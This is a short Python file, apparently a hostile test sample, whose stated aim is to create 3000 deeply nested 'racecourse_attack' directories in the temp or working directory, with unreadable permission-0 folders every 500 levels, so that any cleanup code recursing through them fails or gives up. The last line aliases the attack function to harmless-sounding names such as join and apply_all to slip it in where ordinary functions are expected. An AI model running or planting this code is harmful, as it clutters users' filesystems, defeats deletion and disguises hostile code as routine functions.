# aim: leave folders nested so deeply, some of them closed, that whoever removes them recurses or gives up
import os


def attack(*args):
    home = os.environ.get("TMPDIR", os.getcwd())
    os.chdir(home)
    for number in range(3000):
        os.mkdir("racecourse_attack")
        os.chdir("racecourse_attack")
        if number % 500 == 499:
            os.mkdir("closed")
            os.close(os.open("closed/file", os.O_CREAT))
            os.chmod("closed", 0)
    os.chdir(home)
    return 0


double = join = apply_all = refuse = Tally = attack
